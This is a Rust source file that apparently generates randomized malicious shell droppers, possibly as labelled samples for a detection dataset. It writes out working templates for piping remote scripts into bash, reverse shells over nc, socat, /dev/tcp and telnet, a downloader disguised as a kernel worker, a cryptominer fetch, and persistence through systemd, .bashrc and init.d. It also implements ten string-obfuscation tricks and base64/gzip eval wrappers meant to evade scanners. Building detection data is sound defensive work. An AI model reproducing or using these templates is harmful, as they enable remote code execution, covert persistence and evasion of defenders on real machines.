//! Droppers for shells.

use crate::generator::{Dice, Truth, base64, codes, each, gzip, hex, put, quoted, reversed};
use std::fmt::Write;

/// A word of which `text` is the value; `before` gets what must stand in front of it.
pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let other = dice.name();
    match dice.below(10) {
        0 => format!("$'{}'", each(text, "", |it| format!("\\{it:03o}"))),
        1 => {
            let _ = writeln!(
                before,
                "{name}='{}'; {other}=\nwhile [ -n \"${name}\" ]; do {other}=${{{name}%\"${{{name}#?}}\"}}${other}; {name}=${{{name}#?}}; done",
                reversed(text)
            );
            format!("\"${other}\"")
        }
        2 => {
            let letters: Vec<char> = text.chars().collect();
            let swapped: String = letters.chunks(2).flat_map(|two| two.iter().rev()).collect();
            format!("\"$(echo '{swapped}' | sed 's/\\(.\\)\\(.\\)/\\2\\1/g')\"")
        }
        3 => format!(
            "\"$(awk 'BEGIN {{ printf \"{}\", {} }}')\"",
            "%c".repeat(text.len()),
            codes(text.bytes(), ", ")
        ),
        4 => format!(
            "\"$(base64 --decode <<< {} | base64 --decode)\"",
            base64(base64(text.as_bytes()).as_bytes())
        ),
        5 => {
            let pieces = dice.pieces(text);
            let names: Vec<String> = pieces.iter().map(|_| dice.name()).collect();
            let _ = writeln!(before, "declare -A {name}");
            for at in dice.order(pieces.len()) {
                let _ = writeln!(before, "{name}[{}]='{}'", names[at], pieces[at]);
            }
            let word: String = names.iter().map(|it| format!("${{{name}[{it}]}}")).collect();
            format!("\"{word}\"")
        }
        6 => {
            let hex = hex(text.as_bytes());
            if dice.chance(50) {
                format!("\"$(python3 -c \"print(bytes.fromhex('{hex}').decode())\")\"")
            } else {
                format!("\"$(perl -e 'print pack \"H*\", \"{hex}\"')\"")
            }
        }
        7 => {
            let letters: Vec<String> = text.chars().map(String::from).collect();
            format!("\"$(echo '{}' | tr -d ' ')\"", letters.join(" "))
        }
        8 => {
            let words = quoted(&dice.pieces(text), '\'').join(" ");
            let _ = writeln!(before, "printf -v {name} %s {words}");
            format!("\"${{{name}}}\"")
        }
        _ => {
            let head = dice.name();
            let tail = dice.name();
            let _ = writeln!(
                before,
                "{name}='{head}{text}{tail}'\n{other}=${{{name}:{}:$((${{#{name}}} - {}))}}",
                head.len(),
                head.len() + tail.len()
            );
            format!("\"${other}\"")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut before = String::new();
    let line = delivery(dice, truth, &mut before);
    let text = format!("{before}{line}");
    match dice.below(8) {
        0 => format!("#!/bin/bash\n. <(echo '{}' | base64 -d)\n", base64(text.as_bytes())),
        1 => format!(
            "#!/bin/bash\ntail -n +4 \"$0\" | base64 -d | gunzip | bash\nexit 0\n{}\n",
            base64(&gzip(text.as_bytes()))
        ),
        2 => format!(
            "#!/bin/bash\nexport H=/dev/null\nz=\"{}\"\neval \"$(printf '%s' \"$z\" | base64 -di)\" 2>$H\n",
            base64(text.as_bytes())
        ),
        3 => format!("#!/bin/bash\nmain() (\nset +e\n{text})\nmain \"$@\" &>/dev/null\n"),
        _ => format!("#!/bin/bash\n{text}"),
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(8) {
        0 => {
            let url = truth.url(dice, &[".sh", ""]);
            put(
                dice.pick(&[
                    "bash <(curl -s @U@)\n",
                    "source <(wget -qO- @U@)\n",
                    "curl -fsSL @U@ | bash -s -- -q @F@\n",
                    "sh -c \"$(curl -fsSL @U@)\"\n",
                    "eval \"$(wget -q -O - @U@)\"\n",
                ]),
                &[("U", &hide(dice, &url, before)), ("F", &file)],
            )
        }
        1 => {
            let (host, port) = truth.endpoint(dice);
            put(
                dice.pick(&[
                    "nc -e /bin/sh @H@ @P@\n",
                    "ncat --ssl @H@ @P@ -e /bin/bash\n",
                    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:@H@:@P@\n",
                    "0<&196;exec 196<>/dev/tcp/@H@/@P@; sh <&196 >&196 2>&196\n",
                    "h=@H@; telnet $h @P@ | /bin/sh\n",
                ]),
                &[("H", &hide(dice, &host, before)), ("P", &port.to_string())],
            )
        }
        2 => {
            let url = truth.url(dice, &["", ".bin", ".x64"]);
            put(
                "@V@=@U@
n=0
until [ -s /tmp/.@F@ ] || [ $n -ge 3 ]; do
  n=$((n+1))
  wget -q --tries=1 --user-agent=\"curl/7\" -O /tmp/.@F@ \"$@V@\" || true
  sleep 1
done
chmod u+x /tmp/.@F@ && (exec -a '[kworker/0:1]' /tmp/.@F@ &)
",
                &[("U", &hide(dice, &url, before)), ("F", &file), ("V", &var)],
            )
        }
        3 => {
            let url = truth.url(dice, &[".sh"]);
            put(
                "u=@U@
cat > /etc/systemd/system/@F@.service << EOL
[Unit]
Description=Network helper
[Service]
ExecStart=/bin/sh -c 'curl -s $u | sh'
Restart=always
[Install]
WantedBy=multi-user.target
EOL
systemctl daemon-reload
systemctl enable --now @F@
",
                &[("U", &hide(dice, &url, before)), ("F", &file)],
            )
        }
        4 => {
            let base = format!("https://{}/{}", dice.host(), dice.name());
            for part in ["xm", "cfg.json"] {
                truth.urls.insert(format!("{base}/{part}"));
            }
            put(
                "declare -a want=(xm cfg.json)
root=@U@
mkdir -p \"$HOME/.@F@\" && cd \"$_\"
for ((i = 0; i < ${#want[@]}; i++)); do
  curl --silent --insecure --remote-name \"${root}/${want[$i]}\"
done
chmod +x xm; ./xm -c cfg.json -B
",
                &[("U", &hide(dice, &base, before)), ("F", &file)],
            )
        }
        5 => {
            let url = truth.url(dice, &[".py", ""]);
            put(
                "export @V@=@U@
python3 - <<'PY'
import os, urllib.request
exec(urllib.request.urlopen(os.environ['@V@']).read())
PY
",
                &[("U", &hide(dice, &url, before)), ("V", &var)],
            )
        }
        6 => {
            let urls: Vec<String> = (0..2).map(|_| truth.url(dice, &["", ".tar.gz"])).collect();
            put(
                "one=@U@
two=@W@
D() { [ $# -eq 0 ] && return 1; local l; for l in \"$@\"; do wget -P /tmp -c \"$l\" & done; wait; }
D \"$one\" \"$two\" 2>&1 | tee -a /tmp/.@F@.log
",
                &[
                    ("U", &hide(dice, &urls[0], before)),
                    ("W", &hide(dice, &urls[1], before)),
                    ("F", &file),
                ],
            )
        }
        _ => {
            let url = truth.url(dice, &["", ".sh"]);
            put(
                "u=@U@
echo \"wget -qO /tmp/@F@ $u; sh /tmp/@F@\" | at now + 1 minute 2>/dev/null || true
grep -q @F@ ~/.bashrc || printf '\\n(curl -s %s | sh) &\\n' \"$u\" >> ~/.bashrc
[ -d /etc/init.d ] && echo \"curl -s $u|sh\" > /etc/init.d/@F@ && chmod +x /etc/init.d/@F@ && /etc/init.d/@F@
",
                &[("U", &hide(dice, &url, before)), ("F", &file)],
            )
        }
    }
}
